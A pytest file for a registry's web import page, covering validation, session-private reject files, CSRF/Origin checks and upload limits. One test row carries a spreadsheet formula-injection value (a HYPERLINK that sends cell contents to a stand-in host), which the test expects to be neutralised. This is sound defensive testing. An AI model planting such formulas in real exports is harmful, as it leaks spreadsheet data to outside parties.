"""The workbench's import page: the same all-or-nothing import as `jaga import`, as the logged-in officer;
every refused row on the page (`data-row-error`) and in a download private to the session; 403, 413 and
the whole-file problems (`data-error`)."""

from __future__ import annotations

import csv
import io
import json
import secrets
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from httpx2 import Response
from sqlalchemy import func, select

from jaga.app import create_app
from jaga.db import create_engine_for
from jaga.registry import Person
from tests.conftest import FixedClock, fast_token_hasher
from tests.workbench.conftest import ORIGIN, WorkbenchRegistry, csrf_of, log_in

Client = Callable[[], TestClient]
COLUMNS = [
    "ref",
    "source_kind",
    "source_ref",
    "full_name",
    "nik",
    "sex",
    "birth_date",
    "region_code",
    "address",
]


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    return tmp_path / "data"


@pytest.fixture
def client(with_passwords: WorkbenchRegistry, wb_clock: FixedClock, data_dir: Path) -> Iterator[Client]:
    """Fresh browsers on the registry, with the import page's private files under `data_dir` and an
    upload limit of 1 MB."""
    settings = with_passwords.settings().model_copy(update={"data_dir": data_dir, "import_upload_mb": 1})
    app = create_app(settings, clock=wb_clock, token_hasher=fast_token_hasher())
    clients: list[TestClient] = []

    def make() -> TestClient:
        made = TestClient(app, raise_server_exceptions=False, follow_redirects=False)
        clients.append(made)
        return made

    yield make
    for made in clients:
        made.close()


def _logged_in(client: Client, username: str) -> TestClient:
    browser = client()
    assert log_in(browser, username).status_code == 303  # type: ignore[attr-defined]
    return browser


def _mothers(folder: Path, count: int) -> list[dict[str, str]]:
    """`count` mothers as the synthetic facilities recorded them, under new refs (so that they are new
    records) and without their NIKs (a NIK the same source already recorded is refused)."""
    with (folder / "people-facility.csv").open(encoding="utf-8", newline="") as handle:
        rows = [r for r in csv.DictReader(handle) if r["full_name"] and r["birth_date"]][:count]
    prefix = secrets.token_hex(3).upper()
    return [
        {c: row[c] for c in COLUMNS} | {"ref": f"P-WB{prefix}{i:02d}", "nik": ""}
        for i, row in enumerate(rows)
    ]


def _csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def _people(registry: WorkbenchRegistry) -> int:
    engine = create_engine_for(registry.url)
    with engine.connect() as connection:
        count = connection.execute(select(func.count()).select_from(Person)).scalar_one()
    engine.dispose()
    return int(count)


def _send(
    browser: TestClient,
    content: bytes,
    *,
    kind: str = "people",
    name: str = "ibu.csv",
    csrf: str | None = "",
    lang: str = "",
) -> Response:
    if csrf == "":
        csrf = csrf_of(browser.get("/kerja/impor").text)
    fields = {"kind": kind, "format": ""} | ({"csrf": csrf} if csrf is not None else {})
    return browser.post(
        f"/kerja/impor{lang}",
        data=fields,
        files={"file": (name, content, "text/csv")},
        headers={"Origin": ORIGIN},
    )


def test_a_valid_file_is_imported_as_the_officer_and_its_rows_can_be_read(
    client: Client, with_passwords: WorkbenchRegistry, workbench_folder: Path
) -> None:
    browser = _logged_in(client, "facility")
    mothers = _mothers(workbench_folder, 4)
    # A woman's NIK (day + 40) on a record that says male: written, with a warning (docs/imports.md).
    born = mothers[0]["birth_date"]
    serial = secrets.randbelow(9000) + 1000
    mothers[0] |= {"nik": f"337401{int(born[8:]) + 40:02d}{born[5:7]}{born[2:4]}{serial}", "sex": "M"}
    before = _people(with_passwords)
    sent = _send(browser, _csv(mothers))
    assert sent.status_code == 303, sent.text
    assert sent.headers["location"].startswith("/kerja/impor/")
    shown = browser.get(sent.headers["location"])
    assert shown.status_code == 200 and shown.headers["cache-control"] == "no-store"
    assert 'data-written="4"' in shown.text and "data-row-error " not in shown.text
    warning = shown.text.split('data-row-warning data-row="1" data-column="nik">')[1].split("</tr>")[0]
    assert "NIK menunjukkan perempuan" in warning
    assert _people(with_passwords) == before + 4
    api = TestClient(
        create_app(with_passwords.settings(), token_hasher=fast_token_hasher()),
        headers={"Authorization": f"Bearer {with_passwords.tokens['facility']}"},
    )
    for mother in mothers:
        read = api.get(f"/api/v1/people/{mother['ref']}", params={"reason": "cek impor meja kerja"})
        assert read.status_code == 200, read.text
        assert read.json()["full_name"] == mother["full_name"]
    again = browser.get(sent.headers["location"])  # the result page again: nothing imported twice
    assert again.status_code == 200 and _people(with_passwords) == before + 4


def test_a_json_lines_file_is_imported_too(
    client: Client, with_passwords: WorkbenchRegistry, workbench_folder: Path
) -> None:
    browser = _logged_in(client, "facility")
    mothers = _mothers(workbench_folder, 3)
    mothers = [{k: v for k, v in m.items() if v} for m in mothers]
    lines = "".join(json.dumps(m) + "\n" for m in mothers[:2]).encode()
    sent = _send(browser, lines, name="ibu.jsonl")
    assert sent.status_code == 303, sent.text
    assert 'data-written="2"' in browser.get(sent.headers["location"]).text
    refused = _send(
        browser, lines[:-1] + b"\n" + json.dumps(mothers[2] | {"sex": "X"}).encode(), name="i.jsonl"
    )
    assert refused.status_code == 422 and refused.text.count("data-row-error ") == 3  # two refs now taken
    result = refused.text.split('data-import-result="')[1].split('"')[0]
    download = browser.get(f"/kerja/impor/{result}/ditolak")
    assert download.headers["content-type"].startswith("application/x-ndjson")
    assert 'filename="people-ditolak.jsonl"' in download.headers["content-disposition"]
    assert [json.loads(line)["_row"] for line in download.text.splitlines()] == [1, 2, 3]


def test_bad_rows_are_shown_row_by_row_nothing_is_written_and_the_rejects_come_back_with_reasons(
    client: Client, with_passwords: WorkbenchRegistry, workbench_folder: Path
) -> None:
    browser = _logged_in(client, "facility")
    rows = _mothers(workbench_folder, 5)
    rows[1]["sex"] = "X"
    rows[1]["address"] = '=HYPERLINK("http://example.invalid/?"&A1)'  # must reach a spreadsheet as text
    rows[3]["birth_date"] = "2199-01-01"
    before = _people(with_passwords)
    sent = _send(browser, _csv(rows))
    assert sent.status_code == 422
    assert _people(with_passwords) == before
    page = sent.text
    assert "data-import-refused" in page and 'data-bad-rows="2"' in page
    assert page.count("data-row-error ") == 2
    assert 'data-row="2" data-column="sex"' in page and 'data-row="4" data-column="birth_date"' in page
    assert "harus salah satu dari" in page and "berada di masa depan" in page  # Bahasa Indonesia first
    result = page.split('data-import-result="')[1].split('"')[0]
    english = browser.get(f"/kerja/impor/{result}?lang=en")
    assert (
        english.status_code == 200
        and "Input should be" in english.text
        and "is in the future" in english.text
    )

    download = browser.get(f"/kerja/impor/{result}/ditolak")
    assert download.status_code == 200
    assert download.headers["cache-control"] == "no-store"
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["content-type"].startswith("text/csv")
    refused = list(csv.reader(io.StringIO(download.text)))
    assert refused[0] == ["_row", *COLUMNS, "_reasons"]
    assert [(r[0], r[1]) for r in refused[1:]] == [("2", rows[1]["ref"]), ("4", rows[3]["ref"])]
    reasons = {r[0]: r[-1] for r in refused[1:]}
    assert reasons["2"].startswith("sex: harus salah satu dari")
    assert reasons["4"] == "birth_date: berada di masa depan"
    assert refused[1][COLUMNS.index("address") + 1] == "'" + rows[1]["address"]  # neutralised


def test_the_rejects_belong_to_the_session_that_uploaded_them(
    client: Client, workbench_folder: Path, data_dir: Path
) -> None:
    owner = _logged_in(client, "facility")
    rows = _mothers(workbench_folder, 2)
    rows[0]["sex"] = "X"
    page = _send(owner, _csv(rows)).text
    result = page.split('data-import-result="')[1].split('"')[0]
    files = list((data_dir / "workbench-imports" / "sessions").glob(f"*/{result}.*"))
    assert len(files) == 2
    assert all(stat.S_IMODE(f.stat().st_mode) == 0o600 for f in files)
    assert stat.S_IMODE(files[0].parent.stat().st_mode) == 0o700
    assert not any((data_dir / "workbench-imports" / "uploads").iterdir())  # the upload is gone
    for username in ("facility", "facility-jateng"):  # the same officer in another session, another one
        other = _logged_in(client, username)
        assert other.get(f"/kerja/impor/{result}/ditolak").status_code == 404
        assert other.get(f"/kerja/impor/{result}").status_code == 404
    assert owner.get(f"/kerja/impor/{result}/ditolak").status_code == 200
    logout = owner.post(
        "/keluar", data={"csrf": csrf_of(owner.get("/keluar").text)}, headers={"Origin": ORIGIN}
    )
    assert logout.status_code == 303
    _logged_in(client, "facility").get("/kerja/impor")  # any visit sweeps what ended sessions left
    assert not any(f.exists() for f in files)


def test_a_role_that_may_not_import_the_kind_is_refused(client: Client, workbench_folder: Path) -> None:
    browser = _logged_in(client, "facility")
    assert "data-import-link" in browser.get("/kerja").text
    sent = _send(browser, _csv(_mothers(workbench_folder, 1)), kind="relinquishments")
    assert sent.status_code == 403
    auditor = _logged_in(client, "auditor")
    assert "data-import-link" not in auditor.get("/kerja").text
    assert auditor.get("/kerja/impor").status_code == 403


def test_a_form_without_its_csrf_token_or_from_another_site_is_refused(
    client: Client, with_passwords: WorkbenchRegistry, workbench_folder: Path
) -> None:
    browser = _logged_in(client, "facility")
    before = _people(with_passwords)
    content = _csv(_mothers(workbench_folder, 1))
    assert _send(browser, content, csrf=None).status_code == 403
    assert _send(browser, content, csrf="0" * 32).status_code == 403
    csrf = csrf_of(browser.get("/kerja/impor").text)
    elsewhere = browser.post(
        "/kerja/impor",
        data={"csrf": csrf, "kind": "people"},
        files={"file": ("ibu.csv", content, "text/csv")},
        headers={"Origin": "https://evil.example"},
    )
    assert elsewhere.status_code == 403
    assert _people(with_passwords) == before


def test_an_upload_over_the_limit_gets_a_413_page(client: Client, data_dir: Path) -> None:
    browser = _logged_in(client, "facility")
    big = b"ref,source_kind\n" + b"P-X,facility\n" * 100_000  # 1.3 MB; the limit here is 1 MB
    sent = _send(browser, big)
    assert sent.status_code == 413
    assert "1 MB" in sent.text and "<html" in sent.text
    assert not any((data_dir / "workbench-imports" / "uploads").iterdir())


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("foto.csv", b"\x89PNG\r\n\x1a\n\x00\x00\xff\xfe garbage", "bukan teks UTF-8"),
        ("foto.png", b"\x89PNG\r\n\x1a\n", "nama berkas tidak menunjukkan"),
        ("ibu.csv", b"", "kosong"),
        ("ibu.csv", b"nama,umur\nSiti,30\n", "kolom tidak dikenal: nama, umur"),
        ("ibu.csv", b"ref,source_kind\n", "tidak memiliki baris data"),
    ],
)
def test_a_file_that_is_not_one_of_the_kind_gets_a_clear_message(
    client: Client, with_passwords: WorkbenchRegistry, name: str, content: bytes, expected: str
) -> None:
    browser = _logged_in(client, "facility")
    before = _people(with_passwords)
    sent = _send(browser, content, name=name)
    assert sent.status_code == 422
    error = sent.text.split("data-error>")[1].split("</p>")[0]
    assert expected in error and "rincian dalam bahasa Inggris" not in error
    assert "data-row-error " not in sent.text
    assert _people(with_passwords) == before


def test_a_long_report_shows_the_first_problems_and_counts_the_rest(client: Client) -> None:
    browser = _logged_in(client, "facility")
    sent = _send(browser, b"ref,source_kind\n" + b",agency\n" * 130)
    assert sent.status_code == 422
    assert sent.text.count("data-row-error ") == 100
    assert 'data-more-problems="30"' in sent.text and 'data-bad-rows="130"' in sent.text
